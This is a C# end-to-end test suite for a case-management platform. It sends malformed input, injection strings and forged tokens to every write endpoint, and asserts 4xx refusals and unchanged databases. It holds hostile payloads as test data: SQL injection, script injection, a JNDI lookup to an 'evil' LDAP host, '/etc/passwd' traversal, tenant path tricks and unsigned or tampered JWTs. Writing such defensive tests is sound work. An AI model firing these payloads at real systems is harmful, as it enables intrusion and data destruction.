using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Security.Claims;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Kim.Contracts;
using Kim.ServiceDefaults;
using Kim.ServiceDefaults.Security;
using Kim.Testing;
using Microsoft.Data.Sqlite;
using Microsoft.IdentityModel.JsonWebTokens;
using Microsoft.IdentityModel.Tokens;
using Xunit.Abstractions;

namespace Kim.EndToEnd.Tests;

/// <summary>
/// Every write endpoint of every service, through the real gateway, with bad input of every kind the security
/// issue lists. Each answer must be a 4xx problem (never a 5xx), and no database of the platform may change.
/// </summary>
[Collection(PlatformCollection.Name)]
public sealed class BadInputSuiteTests(PlatformFixture platform, ITestOutputHelper output)
{
    private static readonly string[] Injections = ["' OR '1'='1' --", "\"; DROP TABLE Cases; --", "<script>alert(1)</script>", "${jndi:ldap://evil/x}", "{{7*7}}", "../../etc/passwd"];
    private static readonly string[] OddText = ["a\u0000b", "line\u0007bell", "\u202Egnp.exe", "zero\u200Bwidth", "\uFEFFbom", "\uE000private", new string('x', 10_000)];

    private readonly Dictionary<string, int> triedByKind = [];
    private readonly List<string> failures = [];
    private int refused;
    private int serverErrors;
    private int unauthorisedSuccesses;

    [Fact]
    public async Task Every_write_endpoint_refuses_every_kind_of_bad_input_with_a_4xx_problem_and_changes_nothing()
    {
        var endpoints = await WriteEndpointsAsync();
        Assert.True(endpoints.Count > 40, $"only {endpoints.Count} write endpoints found");

        // Real records behind every id in a path, so the body is what gets refused and not the id.
        var ids = await RealIdsAsync();
        var before = await QuiescentSnapshotAsync();
        var withoutRealId = new List<string>();

        foreach (var endpoint in endpoints)
        {
            var client = ClientFor(endpoint);
            var path = Concrete(endpoint.Path, endpoint.Tenant, ids);
            if (path.Contains(Unknown, StringComparison.Ordinal))
            {
                withoutRealId.Add($"{endpoint.Method} {endpoint.Path}");
            }

            foreach (var (kind, token) in BadTokens(endpoint.Tenant ?? "kommune"))
            {
                var bad = new HttpClient { BaseAddress = platform.Platform.GatewayUrl };
                bad.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", token);
                await ExpectRefusedAsync(kind, bad, endpoint.Method, path, "{}");
            }

            // Correctly signed, but without a platform role, a subject or a tenant, or with them twice.
            foreach (var odd in OddTokens.For(platform.Platform.DevSigningKey, endpoint.Tenant ?? "kommune", "bad-input-odd"))
            {
                var bad = new HttpClient { BaseAddress = platform.Platform.GatewayUrl };
                bad.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", odd.Token);
                await ExpectRefusedAsync("odd token: " + odd.Kind, bad, endpoint.Method, path, "{}");
            }

            // A charset .NET cannot read (it gave 500 before) or the platform does not accept.
            await ExpectRefusedAsync("charset other than UTF-8", client, endpoint.Method, path, "{}", "application/json; charset=utf-7");
            await ExpectRefusedAsync("charset other than UTF-8", client, endpoint.Method, path, "{}", "application/json; charset=iso-8859-1");

            if (!endpoint.HasBody)
            {
                // Nothing but the token and the path to get wrong (e.g. rebuilding projections, marking a follow-up done):
                // a body would be ignored, and with a real id the request would do what it says.
                await ExpectInjectedPathsRefusedAsync(endpoint, client, path);
                continue;
            }

            await ExpectRefusedAsync("malformed JSON", client, endpoint.Method, path, "{\"a\":");
            await ExpectRefusedAsync("malformed JSON", client, endpoint.Method, path, "{\"a\":1,}");
            await ExpectRefusedAsync("not an object", client, endpoint.Method, path, "[1,2,3]");
            // A body without required fields (a search) is complete when empty: only what it must contain can be missing.
            if (!OptionalBodies.Contains(endpoint.Path))
            {
                await ExpectRefusedAsync("missing fields", client, endpoint.Method, path, "{}");
            }

            await ExpectRefusedAsync("unknown field", client, endpoint.Method, path, "{\"isAdmin\":true,\"tenantId\":\"kommune\"}");
            await ExpectRefusedAsync("deep nesting", client, endpoint.Method, path, new string('[', 200) + new string(']', 200));
            await ExpectRefusedAsync("huge body", client, endpoint.Method, path, "{\"x\":\"" + new string('a', 2 * 1024 * 1024) + "\"}");
            await ExpectRefusedAsync("wrong content type", client, endpoint.Method, path, "{}", "text/plain");
            foreach (var (name, schema) in endpoint.Properties)
            {
                // The same member twice, with values of its type: refused, never read as the first or the last.
                var value = RightType(schema).ToJsonString();
                await ExpectRefusedAsync("duplicate JSON member", client, endpoint.Method, path, $"{{\"{name}\":{value},\"{name}\":{value}}}");
                await ExpectRefusedAsync("wrong type", client, endpoint.Method, path, Body(name, WrongType(schema)));
                if (schema["enum"] is not null || IsTyped(schema))
                {
                    foreach (var injection in Injections.Take(2))
                    {
                        await ExpectRefusedAsync(schema["enum"] is not null ? "unknown enum value" : "injection in a typed field", client, endpoint.Method, path, Body(name, injection));
                    }
                }

                if (IsString(schema) && schema["enum"] is null && !IsTyped(schema) && !OptionalBodies.Contains(endpoint.Path))
                {
                    foreach (var text in OddText)
                    {
                        var odd = text.Length > 1000 && LongTexts.Contains(endpoint.Path) ? new string('x', 25_000) : text;
                        // Only the odd field is set: even a harmless odd value leaves the request incomplete, and
                        // the answer must still be a problem, not a crash.
                        await ExpectRefusedAsync(odd.Length > 1000 ? "overlong string" : "control characters and odd Unicode", client, endpoint.Method, path, Body(name, odd));
                    }
                }
            }

            await ExpectInjectedPathsRefusedAsync(endpoint, client, path);
        }

        // Methods no service serves (CONNECT gave 502 before), on one route of every service.
        foreach (var endpoint in endpoints.DistinctBy(e => e.Service))
        {
            foreach (var method in new[] { "CONNECT", "TRACE", "PROPFIND" })
            {
                await ExpectRefusedAsync("unknown method", ClientFor(endpoint), method, Concrete(endpoint.Path, endpoint.Tenant, ids), body: null);
            }
        }

        var total = triedByKind.Values.Sum();
        Kim.Testing.TestFigures.Report(output, "figures.txt",
            $"hostile requests (bad input): {total} sent, {refused} refused with 4xx, {serverErrors} 5xx, {unauthorisedSuccesses} unauthorised 2xx");
        output.WriteLine($"bad-input suite: {endpoints.Count} write endpoints, {total} bad requests tried, {refused} refused with a 4xx problem");
        foreach (var (kind, count) in triedByKind.OrderByDescending(k => k.Value))
        {
            output.WriteLine($"  {kind}: {count}");
        }

        output.WriteLine($"  without a real id in the path ({withoutRealId.Count}): {string.Join("; ", withoutRealId)}");
        Assert.True(failures.Count == 0, $"{failures.Count} of {total} bad requests not refused with a 4xx problem:\n{string.Join('\n', failures.Take(25))}");
        Assert.Equal(0, serverErrors);
        Assert.Equal(0, unauthorisedSuccesses);
        Assert.Equal(total, refused);
        var after = await QuiescentSnapshotAsync();
        Assert.True(before == after, "changed by bad input: " + string.Join("; ", after.Split('\n').Except(before.Split('\n'))));
    }

    private async Task ExpectInjectedPathsRefusedAsync(WriteEndpoint endpoint, HttpClient client, string path)
    {
        foreach (var injection in Injections)
        {
            var injected = Concrete(endpoint.Path, endpoint.Tenant, ids: null, Uri.EscapeDataString(injection));
            if (injected != Concrete(endpoint.Path, endpoint.Tenant, ids: null, ""))
            {
                await ExpectRefusedAsync("injection in the path", client, endpoint.Method, injected, "{}");
            }
        }

        if (endpoint.Tenant is not null)
        {
            foreach (var trick in new[] { "..%2Fkommune", "caritas%2F..%2Fkommune", "CARITAS", "caritas%00", "%2e%2e", "kommune", "caritas%20", "c%C3%A4ritas", "*" })
            {
                await ExpectRefusedAsync("path trick in the tenant segment", client, endpoint.Method, path.Replace("/tenants/caritas/", $"/tenants/{trick}/", StringComparison.Ordinal), "{}");
            }
        }
    }

    private async Task ExpectRefusedAsync(string kind, HttpClient client, string method, string path, string? body, string mediaType = "application/json")
    {
        triedByKind[kind] = triedByKind.GetValueOrDefault(kind) + 1;
        using var request = new HttpRequestMessage(new HttpMethod(method), path);
        if (request.Method == HttpMethod.Connect)
        {
            // HttpClient sends CONNECT in authority form (host:port) and needs the Host header for it.
            request.Headers.Host = client.BaseAddress!.Authority;
        }

        if (body is not null)
        {
            // The whole header as given, parameters included (e.g. a charset the platform does not read).
            request.Content = new StringContent(body, Encoding.UTF8);
            request.Content.Headers.Remove("Content-Type");
            request.Content.Headers.TryAddWithoutValidation("Content-Type", mediaType);
        }

        // As a well-behaved client sends a large body: the gateway refuses it by its length before it is sent.
        request.Headers.ExpectContinue = body?.Length > 64 * 1024;
        HttpResponseMessage response;
        try
        {
            response = await client.SendAsync(request);
        }
        catch (HttpRequestException exception)
        {
            failures.Add($"{kind}: {method} {path} failed: {exception.Message}");
            return;
        }

        using var _ = response;
        var status = (int)response.StatusCode;
        serverErrors += status >= 500 ? 1 : 0;
        unauthorisedSuccesses += status < 400 ? 1 : 0;
        if (status is < 400 or >= 500)
        {
            failures.Add($"{kind}: {method} {path} answered {status}: {Shorten(await response.Content.ReadAsStringAsync())} for {Shorten(body ?? "no body")}");
            return;
        }

        if ((response.Content.Headers.ContentLength is > 0 || response.Content.Headers.ContentType is not null)
            && response.Content.Headers.ContentType?.MediaType != "application/problem+json")
        {
            failures.Add($"{kind}: {method} {path} answered {status} with {response.Content.Headers.ContentType}");
            return;
        }

        refused++;
    }

    private sealed record WriteEndpoint(string Service, string Method, string Path, string? Tenant, string Role, bool HasBody, IReadOnlyList<(string Name, JsonNode Schema)> Properties);

    /// <summary>
    /// Endpoints whose body has no required field, so an empty body is a complete request: a search, withdrawing a
    /// consent (a reason is optional), holding a meeting (minutes may follow), answering none of a submission's questions.
    /// </summary>
    private static readonly HashSet<string> OptionalBodies =
    [
        "/api/tenants/{tenant}/cases/search",
        "/api/tenants/{tenant}/cases/{id}/consents/{consentId}/withdraw",
        "/api/network/steering/meetings/{id}/hold",
        "/api/network/steering/motions/{id}/circular",
        "/api/reports/submissions/{period}/answers",
    ];

    /// <summary>Endpoints that take long text (a meeting's minutes, up to 20,000 characters): overlong is longer there.</summary>
    private static readonly HashSet<string> LongTexts = ["/api/network/steering/meetings/{id}/minutes"];

    /// <summary>Every POST, PUT, PATCH and DELETE under /api/ of every service, from the OpenAPI documents the gateway serves.</summary>
    private async Task<List<WriteEndpoint>> WriteEndpointsAsync()
    {
        var endpoints = new List<WriteEndpoint>();
        foreach (var service in new[] { "caseservice", "networkservice", "reportingservice", "statereportingservice" })
        {
            var document = JsonNode.Parse(await platform.GatewayClient().GetStringAsync($"/openapi/{service}.json"))!;
            foreach (var (path, item) in document["paths"]!.AsObject())
            {
                foreach (var (method, operation) in item!.AsObject().Where(o => o.Key is "post" or "put" or "patch" or "delete"))
                {
                    if (!path.StartsWith("/api/", StringComparison.Ordinal))
                    {
                        continue;
                    }

                    var schema = Resolve(document, operation!["requestBody"]?["content"]?["application/json"]?["schema"]);
                    var properties = schema?["properties"]?.AsObject().Select(p => (p.Key, Resolve(document, p.Value)!)).ToList() ?? [];
                    var tenant = service == "caseservice" ? "caritas" : null;
                    endpoints.Add(new WriteEndpoint(service, method.ToUpperInvariant(), path, tenant, RoleFor(service, path), schema is not null, properties));
                }
            }
        }

        return endpoints;
    }

    /// <summary>A role that passes authorisation, so the input itself is what gets refused.</summary>
    private static string RoleFor(string service, string path) => service switch
    {
        "caseservice" when path.Contains("/reconstructions", StringComparison.Ordinal) => KimRoles.Coordinator,
        "caseservice" => KimRoles.CaseManager,
        "reportingservice" when path.Contains("/submissions", StringComparison.Ordinal) => KimRoles.Coordinator,
        "reportingservice" => KimRoles.Operator,
        "statereportingservice" => KimRoles.StateReporter,
        _ when path.Contains("/circular/votes", StringComparison.Ordinal) || path.Contains("/circular/objection", StringComparison.Ordinal) => KimRoles.SteeringMember,
        _ => KimRoles.Coordinator,
    };

    /// <summary>The state API belongs to the ministry (<c>land</c>), the network and the municipal reports to <c>kommune</c>.</summary>
    private HttpClient ClientFor(WriteEndpoint endpoint) =>
        platform.GatewayClient(endpoint.Tenant ?? (endpoint.Service == "statereportingservice" ? "land" : "kommune"), endpoint.Role, "bad-input-" + endpoint.Role);

    private IEnumerable<(string Kind, string Token)> BadTokens(string tenant)
    {
        var key = platform.Platform.DevSigningKey;
        var now = DateTime.UtcNow;
        yield return ("expired token", DevTokens.Create(key, tenant, KimRoles.Coordinator, "late", now.AddHours(-3), TimeSpan.FromMinutes(5)));
        yield return ("token not yet valid", DevTokens.Create(key, tenant, KimRoles.Coordinator, "early", now.AddHours(2), TimeSpan.FromHours(1)));
        yield return ("wrongly signed token", DevTokens.Create(DevTokens.NewSigningKey(), tenant, KimRoles.Coordinator, "mallory", now, TimeSpan.FromMinutes(5)));
        yield return ("token replayed from another audience", Token(key, "kim-dev", "other-application", tenant, now));
        yield return ("token replayed from another issuer", Token(key, "https://login.example.org", DevTokens.Audience, tenant, now));
        var genuine = DevTokens.Create(key, tenant, KimRoles.Coordinator, "tamper", now, TimeSpan.FromMinutes(5)).Split('.');
        var claims = JsonNode.Parse(Base64UrlEncoder.Decode(genuine[1]))!;
        claims["role"] = KimRoles.Operator;
        yield return ("token with altered claims", $"{genuine[0]}.{Base64UrlEncoder.Encode(claims.ToJsonString())}.{genuine[2]}");
        yield return ("unsigned token (alg none)", $"{Base64UrlEncoder.Encode("{\"alg\":\"none\",\"typ\":\"JWT\"}")}.{genuine[1]}.");
        yield return ("garbage token", "not.a.token");
    }

    private static string Token(string key, string issuer, string audience, string tenant, DateTime now) => new JsonWebTokenHandler().CreateToken(new SecurityTokenDescriptor
    {
        Issuer = issuer,
        Audience = audience,
        IssuedAt = now,
        NotBefore = now,
        Expires = now.AddMinutes(5),
        Subject = new ClaimsIdentity([new Claim(KimClaims.Subject, "replay"), new Claim(KimClaims.Tenant, tenant), new Claim(KimClaims.Role, KimRoles.Coordinator)]),
        SigningCredentials = new SigningCredentials(DevTokens.SecurityKey(key), SecurityAlgorithms.HmacSha256),
    });

    /// <summary>Row count and a hash of the content of every table in every service database, once two readings a second apart agree.</summary>
    private async Task<string> QuiescentSnapshotAsync()
    {
        var previous = "";
        for (var attempt = 0; attempt < 30; attempt++)
        {
            var current = Snapshot();
            if (current == previous)
            {
                return current;
            }

            previous = current;
            await Task.Delay(1000);
        }

        throw new InvalidOperationException("The platform's databases did not settle.");
    }

    private string Snapshot()
    {
        var lines = new List<string>();
        foreach (var file in Directory.GetFiles(platform.DataDirectory, "*.db", SearchOption.AllDirectories).Order(StringComparer.Ordinal))
        {
            using var connection = new SqliteConnection($"Data Source={file};Mode=ReadOnly;Pooling=False");
            connection.Open();
            var tables = new List<string>();
            using (var list = connection.CreateCommand())
            {
                list.CommandText = "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name";
                using var reader = list.ExecuteReader();
                while (reader.Read())
                {
                    tables.Add(reader.GetString(0));
                }
            }

            foreach (var table in tables)
            {
                using var read = connection.CreateCommand();
                read.CommandText = $"SELECT * FROM \"{table}\"";
                using var reader = read.ExecuteReader();
                using var hash = System.Security.Cryptography.IncrementalHash.CreateHash(System.Security.Cryptography.HashAlgorithmName.SHA256);
                var rows = 0;
                while (reader.Read())
                {
                    rows++;
                    for (var column = 0; column < reader.FieldCount; column++)
                    {
                        var value = reader.GetValue(column);
                        hash.AppendData(value is byte[] bytes ? bytes : Encoding.UTF8.GetBytes(Convert.ToString(value, System.Globalization.CultureInfo.InvariantCulture) ?? ""));
                        hash.AppendData([0x1F]);
                    }
                }

                lines.Add($"{Path.GetFileName(file)}/{table}={rows} rows, {Convert.ToHexString(hash.GetHashAndReset())[..16]}");
            }
        }

        return string.Join('\n', lines);
    }

    /// <summary>An id no record has: left in a path where the suite has no real record of that kind.</summary>
    private static readonly string Unknown = Guid.Empty.ToString();

    /// <summary>
    /// Fills a path template: the tenant, a life domain, and for every id the real record of the kind the segment
    /// before it names (<paramref name="ids"/>), or <paramref name="fixedId"/> for every id when given.
    /// </summary>
    private static string Concrete(string template, string? tenant, IReadOnlyDictionary<string, string>? ids, string? fixedId = null)
    {
        var path = template.Replace("{tenant}", tenant ?? "kommune", StringComparison.Ordinal).Replace("{lifeDomain}", "Housing", StringComparison.Ordinal);
        return System.Text.RegularExpressions.Regex.Replace(path, @"(?<collection>[\w-]+)/\{\w+\}", match =>
            match.Groups["collection"].Value + "/" + (fixedId ?? ids?.GetValueOrDefault(match.Groups["collection"].Value) ?? Unknown));
    }

    /// <summary>
    /// Real records for the ids in paths, by the collection segment before the id: a case of the suite's case manager
    /// with a follow-up and a consent, and the network's records; an incoming referral if another test left one.
    /// </summary>
    private async Task<Dictionary<string, string>> RealIdsAsync()
    {
        var ids = new Dictionary<string, string> { ["submissions"] = DateTime.UtcNow.Year.ToString(System.Globalization.CultureInfo.InvariantCulture) };
        var cases = platform.GatewayClient("caritas", KimRoles.CaseManager, "bad-input-" + KimRoles.CaseManager);
        var opened = await PostForIdAsync(cases, "/api/tenants/caritas/cases",
            new { client = new { givenName = "Eingabe", familyName = "Prüfung", birthDate = "1988-08-08" }, confirmDuplicate = true });
        ids["cases"] = opened;
        var today = LocalDay.Of(DateTime.UtcNow);
        ids["follow-ups"] = await PostForIdAsync(cases, $"/api/tenants/caritas/cases/{opened}/follow-ups",
            new { kind = "FollowUp", title = "Unterlagen nachfragen", dueOn = today.AddDays(3) });
        ids["consents"] = await PostForIdAsync(cases, $"/api/tenants/caritas/cases/{opened}/consents",
            new { purpose = "CaseConference", expiresOn = today.AddMonths(1) });

        var network = platform.GatewayClient("kommune", KimRoles.Coordinator, "bad-input-" + KimRoles.Coordinator);
        var suffix = Guid.NewGuid().ToString("N")[..6];
        ids["organisations"] = await PostForIdAsync(network, "/api/network/organisations", new { name = "Beratungsstelle " + suffix, type = "Carrier" });
        ids["working-groups"] = await PostForIdAsync(network, "/api/network/working-groups", new
        {
            name = "PAG Eingaben " + suffix,
            subject = "Eingaben",
            objective = "Prüfen",
            composition = "Koordinierungsstelle",
            workingForm = "Sitzungen",
            expectedResultFormat = "Bericht",
        });
        ids["members"] = await PostForIdAsync(network, "/api/network/steering/members",
            new { organisationId = ids["organisations"], name = "Mitglied " + suffix, userId = "bad-input-member-" + suffix, userTenant = "kommune", hasVotingRight = true });
        ids["motions"] = await PostForIdAsync(network, "/api/network/steering/motions", new { title = "Antrag " + suffix, kind = "General", isBinding = true });
        ids["meetings"] = await PostForIdAsync(network, "/api/network/steering/meetings", new
        {
            title = "Sitzung " + suffix,
            scheduledFor = DateTime.UtcNow.AddDays(14),
            agenda = new[] { new { kind = "Motion", title = "Antrag", referenceId = ids["motions"] } },
        });
        ids["agreements"] = await PostForIdAsync(network, "/api/network/agreements", new
        {
            kind = "Cooperation",
            partnerOrganisationId = ids["organisations"],
            partnerTenantId = "caritas",
            fte = 1.0m,
            supervisionArrangement = "Fachaufsicht beim Träger",
            usesCommonInstruments = true,
            validFrom = today.AddMonths(1).ToString("yyyy-MM-dd", System.Globalization.CultureInfo.InvariantCulture),
        });
        // A resolution is a decided motion; the register's endpoint checks its body before it looks the motion up.
        ids["resolutions"] = ids["motions"];
        AddFirstRow(ids, "incoming-referrals", ResourceNames.CaseService("caritas"), "casedb", "IncomingReferrals");
        return ids;
    }

    private static async Task<string> PostForIdAsync(HttpClient client, string path, object body)
    {
        var response = await client.PostAsJsonAsync(path, body);
        var text = await response.Content.ReadAsStringAsync();
        Assert.True(response.IsSuccessStatusCode, $"set-up {path}: {(int)response.StatusCode} {text}");
        return JsonNode.Parse(text)!["id"]!.GetValue<string>();
    }

    /// <summary>The id of the first row of a table, if there is one.</summary>
    private void AddFirstRow(Dictionary<string, string> ids, string collection, string resource, string database, string table)
    {
        var file = Path.Combine(platform.DataDirectory, resource, database + ".db");
        using var connection = new SqliteConnection($"Data Source={file};Mode=ReadOnly;Pooling=False");
        connection.Open();
        using var command = connection.CreateCommand();
        command.CommandText = $"SELECT Id FROM \"{table}\" LIMIT 1";
        if (command.ExecuteScalar() is { } id)
        {
            ids[collection] = id is byte[] bytes ? new Guid(bytes).ToString() : Convert.ToString(id, System.Globalization.CultureInfo.InvariantCulture)!;
        }
    }

    private static JsonNode? Resolve(JsonNode document, JsonNode? schema)
    {
        for (var i = 0; i < 5 && schema is not null; i++)
        {
            if (schema["$ref"] is { } reference)
            {
                schema = document["components"]!["schemas"]![reference.GetValue<string>().Split('/')[^1]];
            }
            else if ((schema["oneOf"] ?? schema["anyOf"]) is JsonArray choices)
            {
                // A nullable reference: the non-null choice.
                schema = choices.FirstOrDefault(c => c?["type"]?.ToString() != "null") ?? schema;
                if (choices.All(c => c?["type"]?.ToString() == "null"))
                {
                    break;
                }
            }
            else
            {
                break;
            }
        }

        return schema;
    }

    private static IEnumerable<string> Types(JsonNode schema) => schema["type"] switch
    {
        JsonValue value => [value.GetValue<string>()],
        JsonArray array => array.Select(t => t!.GetValue<string>()),
        _ => [],
    };

    private static bool IsString(JsonNode schema) => Types(schema).Contains("string");

    /// <summary>A string with a format (uuid, date, date-time) or an enum: free text does not fit it.</summary>
    private static bool IsTyped(JsonNode schema) => IsString(schema) && schema["format"] is not null;

    /// <summary>A value of another type: text for numbers (which may also be sent as numeric strings), a number otherwise.</summary>
    private static JsonNode WrongType(JsonNode schema) =>
        Types(schema).Any(t => t is "integer" or "number") ? JsonValue.Create("not-the-right-type")
        : IsString(schema) || schema["enum"] is not null ? JsonValue.Create(12345)
        : JsonValue.Create("not-the-right-type");

    /// <summary>A value of the property's JSON type (not necessarily a valid one).</summary>
    private static JsonNode RightType(JsonNode schema) =>
        schema["enum"] is JsonArray { Count: > 0 } values ? values[0]!.DeepClone()
        : Types(schema).Any(t => t is "integer" or "number") ? JsonValue.Create(1)
        : Types(schema).Contains("boolean") ? JsonValue.Create(true)
        : Types(schema).Contains("array") ? new JsonArray()
        : Types(schema).Contains("object") ? new JsonObject()
        : JsonValue.Create(schema["format"]?.ToString() switch { "uuid" => Guid.NewGuid().ToString(), "date" => "2026-01-01", "date-time" => "2026-01-01T00:00:00Z", _ => "x" });

    private static string Body(string name, JsonNode value) => new JsonObject { [name] = value.DeepClone() }.ToJsonString();

    private static string Body(string name, string value) => new JsonObject { [name] = value }.ToJsonString();

    private static string Shorten(string text) => text.Length <= 300 ? text : text[..300] + "…";
}
